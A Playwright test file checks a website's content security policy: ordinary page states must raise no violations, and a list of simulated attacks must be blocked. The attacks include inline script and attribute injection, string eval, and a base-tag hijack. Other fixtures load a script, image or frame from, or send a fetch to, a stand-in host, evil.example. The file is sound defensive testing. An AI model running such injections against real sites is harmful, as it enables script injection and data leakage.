import { expect, test, type Page } from 'playwright/test';
import { Carousel } from '../pages/carousel.ts';
import { EstimateForm } from '../pages/estimate-form.ts';
import { SitePage } from '../pages/site-page.ts';
import { customers, labels } from '../support/content.ts';
import { answerWith, receiveForms } from '../support/form-host.ts';
import { recordViolations } from '../support/policy-violations.ts';
import { TOO_FEW, withTestimonials } from '../support/with-testimonials.ts';

// The other pages are read to their end in islands.spec.ts.
for (const path of ['/no-such-page', '/__forms.html']) {
  test(`${path} is in no conflict with its content security policy`, async ({ page }) => {
    const violations = await recordViolations(page);
    await page.goto(path);
    await new SitePage(page).readToTheEnd();
    expect(violations).toEqual([]);
  });
}

const states: { state: string; path: string; reach: (page: Page) => Promise<unknown> }[] = [
  {
    state: 'the carousel runs',
    path: '/',
    reach: async (page) => {
      test.skip(customers.length < 2, TOO_FEW);
      await withTestimonials(page, 3);
      const carousel = new Carousel(page);
      await carousel.open();
      await carousel.buttons.last().click();
      await expect(carousel.buttons.last()).toHaveAttribute('aria-current', 'true');
    },
  },
  {
    state: 'a color mode is chosen',
    path: '/blog',
    reach: async (page) => {
      await new SitePage(page).pressColorMode();
      await expect(page.locator('html')).toHaveAttribute('data-mode', /light|dark/);
    },
  },
  {
    state: 'a form says what is missing',
    path: '/careers',
    reach: async (page) => {
      const form = new EstimateForm(page);
      await form.openLive('/careers');
      await form.button.click();
      await expect(form.field('Name')).toHaveAttribute('aria-invalid', 'true');
    },
  },
  {
    state: 'a toast is shown',
    path: '/contact',
    reach: async (page) => {
      await receiveForms(page, answerWith(500));
      const form = new EstimateForm(page);
      await form.openLive('/contact');
      await form.fill({ Name: 'Ann', Email: 'ann@example.com', Phone: '(619) 555-0100' });
      await form.button.click();
      await expect(page.getByRole('status').filter({ hasText: labels.form.failedToast })).toBeVisible();
    },
  },
];

for (const { state, path, reach } of states) {
  test(`nothing is in conflict with the policy while ${state}`, async ({ page }) => {
    const violations = await recordViolations(page);
    await page.goto(path);
    await reach(page);
    expect(violations).toEqual([]);
  });
}

const attacks: { what: string; stopped: string; attack: () => void }[] = [
  {
    what: 'a script in the page',
    stopped: 'script-src-elem stopped inline',
    attack: () => {
      const script = document.createElement('script');
      script.textContent = 'document.title = "changed"';
      document.body.append(script);
    },
  },
  {
    what: 'a script of another site',
    stopped: 'script-src-elem stopped https://evil.example/x.js',
    attack: () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
      document.body.append(script);
    },
  },
  {
    what: 'a script in an attribute',
    stopped: 'script-src-attr stopped inline',
    attack: () => {
      document.body.setAttribute('onclick', 'document.title = "changed"');
      document.body.click();
    },
  },
  {
    what: 'text turned into code',
    stopped: 'script-src stopped eval',
    attack: () => {
      // In a timer, since the test's own code may do what the page's may not.
      // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the attack that is to be stopped
      setTimeout('document.title = "changed"');
    },
  },
  {
    what: 'a style in the page',
    stopped: 'style-src-elem stopped inline',
    attack: () => {
      document.head.append(Object.assign(document.createElement('style'), { textContent: '*{color:red}' }));
    },
  },
  {
    what: 'a picture of another site',
    stopped: 'img-src stopped https://evil.example/x.png',
    attack: () => {
      new Image().src = 'https://evil.example/x.png';
    },
  },
  {
    what: 'a message to another site',
    stopped: 'connect-src stopped https://evil.example/',
    attack: () => {
      fetch('https://evil.example/').catch(() => undefined);
    },
  },
  {
    what: 'a frame',
    stopped: 'frame-src stopped https://evil.example',
    attack: () => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
    },
  },
  {
    what: 'another home for addresses',
    stopped: 'base-uri stopped https://evil.example/',
    attack: () => {
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
    },
  },
];

test('the policy stops what does not belong to the page', async ({ page }) => {
  const violations = await recordViolations(page);
  await page.goto('/services');
  for (const { what, stopped, attack } of attacks) {
    await page.evaluate(attack);
    await expect.poll(() => violations, what).toContain(stopped);
  }
  await expect(page).not.toHaveTitle('changed');
});
